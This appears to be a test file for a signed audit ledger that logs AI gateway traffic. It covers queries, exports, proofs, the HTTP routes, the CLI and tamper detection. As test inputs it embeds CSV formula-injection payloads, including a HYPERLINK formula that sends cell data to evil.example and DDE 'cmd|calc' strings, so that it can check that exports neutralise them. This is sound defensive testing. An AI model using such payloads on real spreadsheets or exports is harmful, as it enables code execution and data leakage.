import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, statSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import Fastify from 'fastify';
import Database from 'better-sqlite3';
import {
  Ledger, SqliteLedgerStorage, generateSigner, ledgerHooks, ledgerVerdictSink, registerLedgerRoutes, queryLedger, exportQuery,
  verifyInclusionBundle, verifyConsistencyBundle, ledgerConfigSchema, openCheckpoint, parseVerifierKey,
} from './index.ts';
import { ledgerCliRunner } from '../../test/helpers/ledger-cli.ts';
import { sampleEvent, sampleVerdict } from '../../test/helpers/synthetic-events.ts';

const ORIGIN = 'warden.test/ledger';
// eslint-disable-next-line @typescript-eslint/no-explicit-any
const getJson = async (url: string, init?: RequestInit): Promise<any> => (await fetch(url, init)).json();

async function withLedger(fn: (ledger: Ledger, dir: string, vkey: string) => Promise<void>) {
  const dir = mkdtempSync(join(tmpdir(), 'warden-ledger-api-'));
  const signer = generateSigner(ORIGIN);
  const ledger = await Ledger.open({ storage: SqliteLedgerStorage.open(join(dir, 'l.db')), origin: ORIGIN, signers: [signer], checkpointIntervalMs: 50 });
  try {
    await fn(ledger, dir, signer.verifier().toString());
  } finally {
    await ledger.close();
    rmSync(dir, { recursive: true, force: true });
  }
}

/** 40 interactions over 7 accounts / 3 orgs, one IPv6 client, and verdicts about an account and a cluster. */
async function populate(ledger: Ledger) {
  const events = Array.from({ length: 40 }, (_, i) => sampleEvent(i));
  events[39] = sampleEvent(39, { account_id: 'acct_v6', client: { ip: '2001:db8::42', user_agent: null, country: 'DE', asn: 64501 } });
  await Promise.all(events.map((e, i) => ledger.appendInteraction(e, { clusterId: i % 7 === 1 ? 'cl_9' : null })));
  await ledger.appendVerdict(sampleVerdict({ kind: 'account', id: 'acct_3' }, 'watch'));
  await ledger.appendVerdict(sampleVerdict({ kind: 'cluster', id: 'cl_9' }, 'shape'), { accounts: ['acct_1', 'acct_2'] });
  return events;
}

test('queries: by account, org, cluster, key, model, IP, IPv4 and IPv6 networks, time range; verdicts with reasons', async () => {
  await withLedger(async (ledger) => {
    const events = await populate(ledger);
    const s = ledger.storage;
    const byAccount = await queryLedger(s, { accountId: 'acct_3' });
    assert.equal(byAccount.interactions.length, events.filter((e) => e.account_id === 'acct_3').length);
    assert.equal(byAccount.usage.length, 1);
    assert.equal(byAccount.usage[0].output_tokens, events.filter((e) => e.account_id === 'acct_3').reduce((t, e) => t + e.response.output_tokens, 0));
    assert.equal(byAccount.usage[0].latest_verdict?.level, 'watch');
    assert.equal((byAccount.usage[0].latest_verdict?.reasons[0] as { signal: string }).signal, 'template_repetition');
    assert.ok(byAccount.interactions.every((r) => r.client_ip?.startsWith('203.0.113.')));

    const byCluster = await queryLedger(s, { clusterId: 'cl_9' });
    const inCluster = events.filter((e, i) => i % 7 === 1 || e.account_id === 'acct_1' || e.account_id === 'acct_2');
    assert.equal(byCluster.interactions.length, inCluster.length);
    assert.ok(byCluster.verdicts.some((v) => v.subject_id === 'cl_9' && v.level === 'shape'));

    assert.equal((await queryLedger(s, { orgId: 'org_1' })).interactions.length, events.filter((e) => e.org_id === 'org_1').length);
    assert.equal((await queryLedger(s, { keyId: 'key_2' })).interactions.length, events.filter((e) => e.key_id === 'key_2').length);
    assert.equal((await queryLedger(s, { model: 'gpt-large' })).interactions.length, events.filter((e) => e.model === 'gpt-large').length);
    assert.equal((await queryLedger(s, { ip: '203.0.113.5' })).interactions.length, 1);
    assert.equal((await queryLedger(s, { network: '203.0.113.0/29' })).interactions.length, 8);
    assert.equal((await queryLedger(s, { network: '198.51.100.0/24' })).interactions.length, 0);
    const v6 = await queryLedger(s, { network: '2001:db8::/32' });
    assert.deepEqual(v6.interactions.map((r) => r.account_id), ['acct_v6']);
    const window = await queryLedger(s, { from: events[10].ts, to: events[20].ts });
    assert.equal(window.interactions.length, 10);
    await assert.rejects(queryLedger(s, { network: '10.0.0.0/33' }), /invalid network/);

    // After erasure an account's usage still counts, but no longer says where from.
    await ledger.erase({ accountId: 'acct_3' });
    const erased = await queryLedger(s, { accountId: 'acct_3' });
    assert.equal(erased.interactions.length, byAccount.interactions.length);
    assert.ok(erased.interactions.every((r) => r.client_ip === null && r.erased));
    assert.equal((await queryLedger(s, { network: '203.0.113.0/24', accountId: 'acct_3' })).interactions.length, 0);
  });
});

test('exports: CSV (escaped, formula-safe) and JSONL', async () => {
  await withLedger(async (ledger) => {
    await populate(ledger);
    await ledger.appendInteraction(sampleEvent(99, { account_id: '=cmd|calc', model: 'm,"quoted"' }));
    const result = await queryLedger(ledger.storage, {});
    const collect = async (format: 'csv' | 'jsonl') => {
      const out = new PassThrough();
      const chunks: Buffer[] = [];
      out.on('data', (c) => chunks.push(c));
      await exportQuery(result, format, out);
      out.end();
      return Buffer.concat(chunks).toString('utf8');
    };
    const csv = await collect('csv');
    const lines = csv.split('\n');
    assert.ok(lines[0].startsWith('index,id,ts,account_id'));
    assert.ok(csv.includes("'=cmd|calc"), 'formula cells are neutralised');
    assert.ok(csv.includes('"m,""quoted"""'), 'commas and quotes are escaped');
    const jsonl = (await collect('jsonl')).trim().split('\n').map((l) => JSON.parse(l));
    assert.equal(jsonl.filter((o) => o.type === 'interaction').length, 41);
    assert.equal(jsonl.filter((o) => o.type === 'verdict').length, 2);
    assert.ok(jsonl.some((o) => o.type === 'usage'));
  });
});

test('CSV export: a customer-chosen model or user agent starting with "-<digit>" cannot become a spreadsheet formula', async () => {
  await withLedger(async (ledger) => {
    const model = '-1+HYPERLINK("https://evil.example/?"&A2,"click")';
    const ua = "-2+3+cmd|' /C calc'!A0";
    await ledger.appendInteraction(sampleEvent(1, { model, client: { ip: '203.0.113.9', user_agent: ua, country: 'NL', asn: -64500 } }));
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c) => chunks.push(c));
    await exportQuery(await queryLedger(ledger.storage, {}), 'csv', out);
    out.end();
    const [header, row] = Buffer.concat(chunks).toString('utf8').split('\n');
    const cols = header.split(',');
    assert.ok(row.includes(`"'${model.replace(/"/g, '""')}"`), `the model cell is neutralised: ${row}`);
    assert.ok(row.includes(`'${ua}`), `the user agent cell is neutralised: ${row}`);
    assert.equal(row.split(',')[cols.indexOf('index')], '0', 'numbers are written as they are');
    assert.ok(row.includes(',-64500,'), `negative numbers are not prefixed: ${row}`);
  });
});

test('usage counts models named like Object.prototype members (constructor, toString, __proto__) as any other', async () => {
  await withLedger(async (ledger) => {
    for (const [i, model] of ['constructor', 'toString', '__proto__', 'toString'].entries()) await ledger.appendInteraction(sampleEvent(7 * i, { model }));
    const { usage } = await queryLedger(ledger.storage, { accountId: 'acct_0' });
    const models = JSON.parse(JSON.stringify(usage[0].models)) as Record<string, unknown>;
    assert.deepEqual(models, JSON.parse('{"constructor":1,"toString":2,"__proto__":1}'), `every model counted as a number: ${JSON.stringify(models)}`);
  });
});

test('HTTP: checkpoint is a signed note; proofs verify standalone; entries; query needs authorisation', async () => {
  await withLedger(async (ledger, _dir, vkey) => {
    const events = await populate(ledger);
    const app = Fastify();
    registerLedgerRoutes(app, ledger, { authorizeQuery: (req) => req.headers.authorization === 'Bearer admin' });
    await app.listen({ port: 0, host: '127.0.0.1' });
    const base = `http://127.0.0.1:${(app.server.address() as { port: number }).port}/ledger/v1`;
    try {
      const cpRes = await fetch(`${base}/checkpoint`);
      assert.equal(cpRes.status, 200);
      assert.match(cpRes.headers.get('content-type')!, /^text\/plain/);
      const note = await cpRes.text();
      const cp = openCheckpoint(note, [parseVerifierKey(vkey)], ORIGIN);
      assert.equal(cp.size, ledger.size);
      assert.equal((await (await fetch(`${base}/key`)).text()).trim(), vkey);

      const byId = await getJson(`${base}/proof/inclusion?id=${events[3].id}`);
      verifyInclusionBundle(byId, [vkey], ORIGIN);
      const byIndex = await getJson(`${base}/proof/inclusion?index=0`);
      verifyInclusionBundle(byIndex, [vkey], ORIGIN);
      assert.equal((await fetch(`${base}/proof/inclusion?index=99999`)).status, 404);
      assert.equal((await fetch(`${base}/proof/inclusion?index=-1`)).status, 400);
      assert.equal((await fetch(`${base}/proof/inclusion`)).status, 400);

      await Promise.all([1, 2, 3].map((i) => ledger.appendInteraction(sampleEvent(200 + i))));
      await ledger.checkpoint();
      const cons = await getJson(`${base}/proof/consistency?old=${cp.size}&new=${ledger.size}`);
      verifyConsistencyBundle(cons, [vkey], ORIGIN);
      assert.equal((await fetch(`${base}/proof/consistency?old=5&new=2`)).status, 400);

      const entries = await getJson(`${base}/entries?start=2&end=5`);
      assert.deepEqual(entries.entries.map((e: { index: number }) => e.index), [2, 3, 4]);
      assert.equal(entries.more, false);
      // Cut short by the limit, the answer says where the rest starts.
      const page = await getJson(`${base}/entries?start=2&end=5&limit=2`);
      assert.deepEqual([page.entries.map((e: { index: number }) => e.index), page.more, page.next], [[2, 3], true, 4]);
      assert.equal(JSON.parse(entries.entries[0].leaf).schema, 'warden.ledger/5', 'an interaction leaf names the schema that records the cache split, the region and the service tier');

      assert.equal((await fetch(`${base}/query?account=acct_3`)).status, 401);
      const q = await fetch(`${base}/query?account=acct_3`, { headers: { authorization: 'Bearer admin' } });
      assert.equal(q.status, 200);
      assert.ok(((await q.json()) as { interactions: unknown[] }).interactions.length > 0);
      // An address is looked up in its canonical spelling, however it is written; a non-address is a 400.
      for (const spelling of ['203.0.113.5', '::ffff:203.0.113.5', '[::ffff:203.0.113.5]', '::FFFF:cb00:7105']) {
        const byIp = await fetch(`${base}/query?ip=${encodeURIComponent(spelling)}`, { headers: { authorization: 'Bearer admin' } });
        assert.equal(byIp.status, 200, spelling);
        assert.deepEqual(((await byIp.json()) as { interactions: { client_ip: string }[] }).interactions.map((r) => r.client_ip), ['203.0.113.5'], `ip=${spelling} finds the interaction`);
      }
      const notIp = await fetch(`${base}/query?ip=not-an-ip`, { headers: { authorization: 'Bearer admin' } });
      assert.equal(notIp.status, 400, 'a non-address is refused');
      assert.match(await notIp.text(), /invalid IP not-an-ip/);
      const csv = await fetch(`${base}/query?org=org_1&format=csv`, { headers: { authorization: 'Bearer admin' } });
      assert.match(csv.headers.get('content-type')!, /text\/csv/);
      assert.ok((await csv.text()).startsWith('index,id'));
    } finally {
      await app.close();
    }
  });
});

test('gateway hook records events without blocking; verdict sink records verdicts', async () => {
  await withLedger(async (ledger) => {
    const hooks = ledgerHooks(ledger, {
      verdicts: { forAccount: (id) => ({ level: 'none', verdict: null, clusterId: id === 'acct_1' ? 'cl_hook' : null }) },
      closeOnShutdown: false,
    });
    // Not blocking is told by what happened, not by a clock: nothing is committed while the request path runs.
    for (let i = 0; i < 500; i++) hooks.onEvent!(sampleEvent(i));
    assert.equal(ledger.size, 0, 'nothing committed synchronously on the request path');
    ledgerVerdictSink(ledger)(sampleVerdict({ kind: 'account', id: 'acct_1' }));
    await hooks.close!();
    assert.equal(ledger.size, 501);
    const r = await queryLedger(ledger.storage, { clusterId: 'cl_hook' });
    assert.equal(r.interactions.length, Array.from({ length: 500 }, (_, i) => i).filter((i) => i % 7 === 1).length);
  });
});

test('CLI: keygen, key, checkpoint, prove, consistency, query, erase, verify (OK, then naming a bad entry)', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'warden-ledger-cli-'));
  try {
    // Files default to beside the store's database.
    const ledgerCfg = { ...ledgerConfigSchema.parse({ origin: ORIGIN, key: '' }), sqlite_path: join(dir, 'ledger.db'), key_file: join(dir, 'ledger.key') };
    const config = { ledger: ledgerConfigSchema.parse({ origin: ORIGIN, key: '' }), store: { driver: 'sqlite' as const, postgres_url: '', sqlite_path: join(dir, 'warden.db') } };
    const run = ledgerCliRunner(config);
    const kg = await run('keygen');
    assert.equal(kg.code, 0, kg.err);
    assert.equal(statSync(ledgerCfg.key_file).mode & 0o777, 0o600);
    const vkey = /verifier key \(publish this\): (\S+)/.exec(kg.out)![1];
    assert.equal((await run('keygen')).code, 1, 'keygen refuses to overwrite a key');
    assert.equal((await run('key')).out.trim(), vkey);
    assert.ok(readFileSync(ledgerCfg.key_file, 'utf8').startsWith('PRIVATE+KEY+warden.test/ledger+'));

    // Fill the log through the API, as the gateway would.
    const { openLedgerFromConfig } = await import('./open.ts');
    const ledger = await openLedgerFromConfig(config, { env: {} });
    const events = await populate(ledger);
    await ledger.close();

    const cp = await run('checkpoint');
    assert.equal(cp.code, 0, cp.err);
    const size = openCheckpoint(cp.out, [parseVerifierKey(vkey)], ORIGIN).size;
    assert.equal(size, 42);
    const proof = await run('prove', events[7].id);
    assert.equal(proof.code, 0, proof.err);
    verifyInclusionBundle(JSON.parse(proof.out), [vkey], ORIGIN);
    const cons = await run('consistency', '10', '42');
    assert.equal(cons.code, 0, cons.err);
    assert.equal(JSON.parse(cons.out).new_size, 42);
    const q = await run('query', '--account', 'acct_3', '--format', 'csv');
    assert.equal(q.code, 0, q.err);
    assert.ok(q.out.split('\n').length > 3);
    assert.match((await run('erase', '--account', 'acct_4')).out, /erased personal data of \d+ entries/);
    assert.equal((await run('erase')).code, 2);
    assert.equal((await run('bogus')).code, 2);

    const ok = await run('verify', '--key', vkey);
    assert.equal(ok.code, 0, ok.out + ok.err);
    assert.match(ok.out, /OK/);

    const db = new Database(ledgerCfg.sqlite_path);
    db.prepare("UPDATE ledger_entries SET leaf = CAST(replace(CAST(leaf AS TEXT), '\"output_tokens\":1', '\"output_tokens\":9') AS BLOB) WHERE idx = 13").run();
    db.close();
    const bad = await run('verify', '--key', vkey);
    assert.equal(bad.code, 1);
    assert.match(bad.out, /first bad entry is 13/);
    const wrongKey = await run('verify', '--key', generateSigner(ORIGIN).verifier().toString());
    assert.equal(wrongKey.code, 1);
    assert.match(wrongKey.out, /not signed by any trusted key/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('a query row says what the boundary decided and why: the refusal\'s error code and the policy rules and networks behind it', async () => {
  await withLedger(async (ledger) => {
    const refused = sampleEvent(0, { account_id: 'acct_ir' });
    refused.response = { ...refused.response, status: 403, error_code: 'WARDEN_REGION_BLOCKED', output_tokens: 0 };
    refused.enforcement = { ...refused.enforcement, policy: ['rule:embargoed-regions', 'refused:region_blocked'] };
    const served = sampleEvent(1, { account_id: 'acct_ir' });
    served.enforcement = { ...served.enforcement, policy: ['rule:vpn-no-raw-reasoning', 'network:vpn:ExampleVPN'] };
    await ledger.appendInteraction(refused);
    await ledger.appendInteraction(served);
    const rows = (await queryLedger(ledger.storage, { accountId: 'acct_ir' })).interactions;
    const byId = new Map(rows.map((r) => [r.id, r]));
    assert.equal(byId.get(refused.id)?.error_code, 'WARDEN_REGION_BLOCKED', 'the refusal is named');
    assert.deepEqual(byId.get(refused.id)?.policy, ['rule:embargoed-regions', 'refused:region_blocked'], 'the rule that refused is named');
    assert.deepEqual(byId.get(served.id)?.policy, ['rule:vpn-no-raw-reasoning', 'network:vpn:ExampleVPN'], 'the network the request came through is named');
    assert.equal(byId.get(served.id)?.error_code, null);
    const csv = new PassThrough();
    let text = '';
    csv.on('data', (c) => { text += c; });
    await exportQuery(await queryLedger(ledger.storage, { accountId: 'acct_ir' }), 'csv', csv);
    assert.match(text.split('\n')[0], /,error_code,policy,/, 'the CSV export carries them too');
    assert.ok(text.includes('rule:embargoed-regions;refused:region_blocked'), text);
  });
});
